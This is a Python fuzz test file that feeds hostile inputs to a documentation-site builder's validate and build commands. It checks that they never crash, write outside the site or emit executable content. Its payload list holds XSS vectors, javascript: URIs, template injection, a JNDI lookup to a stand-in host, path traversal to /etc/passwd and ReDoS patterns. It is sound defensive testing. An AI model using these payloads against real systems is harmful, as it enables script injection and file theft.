"""Fuzzing validate and build with hypothesis: arbitrary text, and valid descriptions whose
strings and names are replaced by hostile payloads. Never a traceback, never a hang, never
a file outside the site, never executable content in a page.

The normal suite runs a bounded number of cases; a long run raises them:

    MCPDESC_FUZZ_EXAMPLES=3000 .venv/bin/pytest tests/test_fuzz.py -o timeout=0
"""

from __future__ import annotations

import copy
import json
import os
from collections import Counter
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from hypothesis import HealthCheck, given, reject, settings
from hypothesis import strategies as st

from mcpdesc_docs.errors import DescriptionError
from mcpdesc_docs.model.links import is_install_link
from mcpdesc_docs.source.roundtrip import canonical, edit_text

from .edit_cases import CHANGES, EDITS, SOURCES, baseline, comment_places, data_of, line_key
from .helpers import describe, diagnostics_of
from .hostile_documents import ESCAPES, SMALL_HOSTILE_CASES
from .rich_document import rich
from .sites import SAMPLE, html_pages, load_data, parse, run
from .test_bounded import UNSAFE
from .work_counts import lines

EXAMPLES = int(os.environ.get("MCPDESC_FUZZ_EXAMPLES", "0"))
SETTINGS = settings(
    max_examples=EXAMPLES or 40,
    deadline=None,  # a hang is caught by pytest-timeout; a loaded machine must not fail a case
    suppress_health_check=list(HealthCheck),
    derandomize=not EXAMPLES,  # the normal suite is reproducible; long runs explore
)

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[x](javascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "![x](https://evil.example/p.png)",
    "<a href='javascript:alert(1)'>x</a>",
    "background:url(https://evil.example/x)",
    "</style><script>alert(1)</script>",
    "{{ 7*7 }}",
    "{% for x in range(9999999) %}x{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "con",
    "\x00nul\x00",
    "\u202eevil",
    "𝕏" * 3,
    "",
]
YAML_ALPHABET = st.sampled_from([*list("abc:-{}[],'\"#&*!|>%@`?\n \t0123456789.~"), "é", "\ufeff", "\\"])


def no_executable_content(site: Path) -> None:
    for page_path in html_pages(site):
        page = parse(page_path)
        sources = [s.get("src", "").rsplit("/", 1)[-1] for s in page.select("script")]
        assert sources == ["mcpdesc-early.js", "mcpdesc.js"], page_path
        for element in page.find_all(True):
            for attribute, value in element.attrs.items():
                assert not attribute.lower().startswith("on"), (page_path, element.name, attribute)
                if attribute in ("href", "src", "action", "formaction", "srcset", "poster", "data"):
                    text = value if isinstance(value, str) else " ".join(value)
                    # The build's own install links (a[data-install-link]) may use two schemes more.
                    made = element.name == "a" and element.has_attr("data-install-link") and is_install_link(text)
                    allowed = ("", "http", "https", "mailto", *(("cursor", "vscode") if made else ()))
                    assert urlsplit(text.strip()).scheme.lower() in allowed, text
        assert page.select("iframe, object, embed, img, math, form[action], meta[http-equiv=refresh i]") == []


@SETTINGS
@given(text=st.text(alphabet=YAML_ALPHABET, max_size=300), suffix=st.sampled_from([".yaml", ".json", ".txt"]))
def test_arbitrary_text_never_crashes_validate(tmp_path_factory, text: str, suffix: str) -> None:
    path = tmp_path_factory.mktemp("fuzz") / f"d{suffix}"
    path.write_text(text, encoding="utf-8")
    code, out, err = run("validate", str(path))
    assert code in (0, 1), err
    assert "Traceback" not in err + out
    assert "code internal-error" not in out  # a crashing rule is reported, and exits 1 too


def mutate(document: Any, data: st.DataObject) -> Any:
    """Replace some strings and mapping keys with payloads, keeping the structure."""
    if isinstance(document, dict):
        result = {}
        for key, value in document.items():
            if (
                not key.startswith(("$", "x-"))
                and key not in ("mcpdesc", "type", "mode")
                and data.draw(st.integers(0, 9)) == 0
            ):
                key = key + data.draw(st.sampled_from(PAYLOADS))
            result[key] = mutate(value, data)
        return result
    if isinstance(document, list):
        return [mutate(item, data) for item in document]
    if isinstance(document, str) and data.draw(st.integers(0, 2)) == 0:
        return data.draw(st.sampled_from([document + p for p in PAYLOADS] + PAYLOADS))
    return document


TEXT_KEYS = {"description", "title", "message", "when", "onDecline", "onCancel", "text", "instructions"}


def mutate_text(document: Any, data: st.DataObject, path: tuple[Any, ...] = ()) -> Any:
    """Replace free text (and primitive names) with payloads. Names elsewhere have patterns,
    and form schemas must stay equal to their interaction steps, so those are left alone:
    the result usually stays valid and the pages get built with hostile text in them."""
    key = path[-1] if path else ""
    if isinstance(document, dict):
        if key in ("requestedSchema", "steps"):
            return document
        return {k: mutate_text(v, data, (*path, k)) for k, v in document.items()}
    if isinstance(document, list):
        return [mutate_text(item, data, (*path, i)) for i, item in enumerate(document)]
    primitive_name = (
        key == "name" and len(path) == 3 and path[0] in ("tools", "resources", "resourceTemplates", "prompts")
    )
    if isinstance(document, str) and document and (key in TEXT_KEYS or primitive_name) and data.draw(st.booleans()):
        payload = data.draw(st.sampled_from([p for p in PAYLOADS if p.strip()]))
        return document + " " + payload if key == "name" else payload
    return document


BASES = [load_data(SAMPLE), rich()]


@SETTINGS
@given(data=st.data())
def test_hostile_descriptions_build_inert_or_fail_cleanly(tmp_path_factory, data: st.DataObject) -> None:
    base = copy.deepcopy(data.draw(st.sampled_from(BASES)))
    document = mutate_text(base, data) if data.draw(st.integers(0, 3)) else mutate(base, data)
    root = tmp_path_factory.mktemp("fuzzbuild")
    (root / "d.json").write_text(json.dumps(document), encoding="utf-8")
    code, out, err = run("build", str(root / "d.json"), "-o", str(root / "site"))
    assert code in (0, 1), err
    assert "Traceback" not in err + out
    assert "code internal-error" not in out  # a crashing rule is reported, and exits 1 too
    # nothing outside the site: only the input and the site directory exist
    assert sorted(p.name for p in root.iterdir()) == (["d.json", "site"] if code == 0 else ["d.json"])
    if code == 0:
        no_executable_content(root / "site")


@SETTINGS
@given(data=st.data())
def test_validator_never_crashes_on_hostile_documents(data: st.DataObject) -> None:
    document = mutate(copy.deepcopy(data.draw(st.sampled_from(BASES))), data)
    crashes = [d for d in diagnostics_of(document) if d.code == "internal-error"]  # and must not raise
    assert crashes == [], describe(crashes)


# --- hostile structure: the cost attacks of tests/hostile_documents.py, mutated ----------

FRAGMENTS: list[Any] = [
    {"type": "string", "pattern": "^(a+)+$"},
    {"type": "object", "patternProperties": {"^(x|x)*$": {}}},
    {"$ref": "#"},
    {"$ref": "#/$defs/missing"},
    {"$componentRef": "#/components/schemas/nowhere"},
    "a" * 40 + "!",
    ESCAPES,
    {"::error file=x::forged": ESCAPES},
    10**60,
    "{+a}{+b}{+c}{+d}{+e}{+f}",
    "*a " * 200,
]


def _places(document: Any) -> list[tuple[Any, Any]]:
    """(container, key or index) of every value in the document, in document order."""
    found: list[tuple[Any, Any]] = []
    stack = [document]
    while stack:
        node = stack.pop()
        members = list(node.items()) if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else []
        for key, value in members:
            found.append((node, key))
            stack.append(value)
    return found


def hostile_structure(document: Any, data: st.DataObject) -> Any:
    """A few attacks at drawn places: graft a fragment, nest a value deeply, repeat an
    array's items, add a hostile member name. (A few draws per case, whatever the size of
    the document, so hypothesis can replay and shrink them.)"""
    for _ in range(data.draw(st.integers(1, 6))):
        places = _places(document)
        if not places:
            break
        container, key = places[data.draw(st.integers(0, len(places) - 1))]
        action = data.draw(st.sampled_from(["graft", "nest", "repeat", "rename"]))
        value = container[key]
        if action == "graft" and key != "mcpdesc":
            container[key] = copy.deepcopy(data.draw(st.sampled_from(FRAGMENTS)))
        elif action == "nest":
            for _ in range(data.draw(st.integers(1, 40))):
                value = {"items": value} if data.draw(st.booleans()) else [value]
            container[key] = value
        elif action == "repeat" and isinstance(value, list) and value:
            container[key] = value * data.draw(st.integers(2, 300))
        elif action == "rename" and isinstance(container, dict):
            container[str(key) + ESCAPES[: data.draw(st.integers(1, len(ESCAPES)))]] = container.pop(key)
    return document


HOSTILE_BASES = [load_data(SAMPLE), rich(), *(hostile_case() for hostile_case in SMALL_HOSTILE_CASES)]


def check_output_is_plain(text: str) -> None:
    assert len(text) < 2_000_000
    assert "internal error" not in text
    assert UNSAFE.search(text) is None, UNSAFE.search(text)
    assert not any(line.lstrip().startswith("::") for line in text.splitlines())


@SETTINGS
@given(data=st.data())
def test_hostile_structure_validates_and_builds_within_bounds(tmp_path_factory, data: st.DataObject) -> None:
    document = hostile_structure(copy.deepcopy(data.draw(st.sampled_from(HOSTILE_BASES))), data)
    root = tmp_path_factory.mktemp("fuzzhostile")
    (root / "d.json").write_text(json.dumps(document), encoding="utf-8")
    command = data.draw(st.sampled_from(["validate", "build"]))
    code, out, err = run(command, str(root / "d.json"), *(["-o", str(root / "site")] if command == "build" else []))
    assert code in (0, 1), err
    check_output_is_plain(out)
    check_output_is_plain(err)


# --- migrate and describe --update: edits of hand-kept files ------------------------------


def hand_kept_variant(text: str, places: list[int], data: st.DataObject) -> str:
    """The text with comment lines put in (where they change nothing), each line ending in
    LF, CRLF or either, and trailing blanks on some lines."""
    lines = text.splitlines()
    chosen = data.draw(st.lists(st.sampled_from(places), max_size=4)) if places else []
    for number, place in enumerate(sorted(chosen, reverse=True)):
        following = lines[place] if place < len(lines) else ""
        indent = data.draw(st.sampled_from(["", following[: len(following) - len(following.lstrip(" "))]]))
        lines.insert(place, f"{indent}# note {number}")
    endings = data.draw(st.sampled_from(["\n", "\r\n", "mixed"]))
    blanks = [""] * 4 + ([" ", "  ", "\t"] if not places else [" ", "  "])  # tabs: JSON only
    return "".join(
        line
        + data.draw(st.sampled_from(blanks))
        + (data.draw(st.sampled_from(["\n", "\r\n"])) if endings == "mixed" else endings)
        for line in lines
    )


@SETTINGS
@given(data=st.data())
def test_edits_keep_every_byte_outside_the_change_within_linear_work(data: st.DataObject) -> None:
    source, change = data.draw(st.sampled_from(EDITS))
    fmt = SOURCES[source][1]
    text = hand_kept_variant(SOURCES[source][0], comment_places(source), data)
    try:
        new = CHANGES[change](data_of(text, fmt))
    except DescriptionError:
        reject()  # a comment or blank where YAML allows none: not an edit to make
    results: list[str | None] = []
    work = lines(lambda: results.append(edit_text(text, fmt, new)))
    edited = results[0]
    assert edited is not None
    assert canonical(data_of(edited, fmt)) == canonical(new)
    base = baseline(source, change)
    gone = Counter(text.splitlines(keepends=True)) - Counter(edited.splitlines(keepends=True))
    assert all(line_key(line) in base.touched for line in gone), (gone, base.touched)
    endings = {line[len(line.rstrip("\r\n")) :] for line in edited.splitlines(keepends=True)}
    assert endings <= {line[len(line.rstrip("\r\n")) :] for line in text.splitlines(keepends=True)}
    assert work < 3 * base.work * len(text) / base.characters, (work, base)
